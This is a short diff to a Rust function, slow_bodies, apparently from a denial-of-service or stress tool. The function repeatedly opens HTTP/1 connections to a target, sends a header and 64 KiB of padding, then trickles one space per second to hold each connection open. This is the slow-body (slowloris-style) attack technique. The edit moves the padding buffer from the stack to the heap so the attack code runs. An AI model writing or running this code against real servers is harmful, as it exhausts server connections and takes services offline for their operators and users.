@@ -138,7 +138,7 @@ async fn slow_bodies(target: &Target, done: &AtomicUsize) -> Result<()> {
     loop {
         let Ok(mut stream) = target.handshake(Protocol::Http1).await else { continue };
         done.fetch_add(1, Ordering::Relaxed);
-        let mut piece = [head.as_bytes(), &[b' '; 64 << 10]].concat();
+        let mut piece = [head.as_bytes(), &vec![b' '; 64 << 10]].concat();
         while stream.write_all(&piece).await.is_ok() && stream.flush().await.is_ok() {
             piece = vec![b' '];
             tokio::time::sleep(Duration::from_secs(1)).await;
